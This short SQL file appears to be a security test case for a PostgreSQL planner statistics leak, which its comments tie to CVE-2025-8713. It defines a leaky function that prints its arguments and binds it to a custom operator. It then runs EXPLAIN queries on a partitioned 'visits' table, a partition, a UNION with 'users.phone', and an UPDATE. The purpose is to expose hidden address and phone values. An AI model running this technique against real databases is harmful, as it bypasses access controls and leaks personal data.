-- what: the same on a partition, whose parent is asked
-- known: bypasses.md: CVE-2025-8713
-- purpose: service
CREATE FUNCTION shout(text, text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RAISE NOTICE '%', $1; RETURN true; END $$;
CREATE OPERATOR <<< (LEFTARG = text, RIGHTARG = text, FUNCTION = shout, RESTRICT = scalarltsel, JOIN = scalarltjoinsel);
EXPLAIN SELECT 1 FROM visits WHERE address <<< '1';
EXPLAIN SELECT 1 FROM visits_1 WHERE address <<< '1';
EXPLAIN SELECT 1 FROM (SELECT address AS a FROM visits UNION ALL SELECT phone FROM users) s WHERE a <<< '1';
EXPLAIN UPDATE visits SET day = day WHERE address <<< '1';
